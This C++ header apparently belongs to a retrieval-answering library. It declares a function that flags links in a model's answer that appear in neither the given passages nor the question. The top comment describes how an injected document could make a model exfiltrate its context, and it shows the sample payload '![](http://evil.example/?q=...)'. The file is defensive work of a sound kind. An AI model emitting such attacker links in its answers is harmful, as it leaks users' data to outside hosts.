// Links that a model writes and nobody gave it: the way by which a document could have what it was told beside
// it carried away ("![](http://evil.example/?q=...)").
//
// Kindling follows no link and shows no picture, but what shows its answers may. So each address in an answer
// that stands, as a whole, neither in a passage nor in the question is named. Addresses are what begins with
// a scheme and "//", with "www.", "mailto:", "data:" or "javascript:", and whatever stands in the parentheses
// of a Markdown link or picture and is no fragment.
//
// Pure; safe from any thread; bounded: answer_links_max addresses times the size of the passages.
#pragma once

#include <span>
#include <string>
#include <string_view>
#include <vector>

namespace kindling {

inline constexpr std::size_t answer_links_max = 50;  // looked at; the rest of them counts as foreign

// In the order written, each once. `known`: whatever the model was given.
[[nodiscard]] std::vector<std::string> foreign_links(std::string_view answer,
                                                     std::span<const std::string_view> known);

}  // namespace kindling
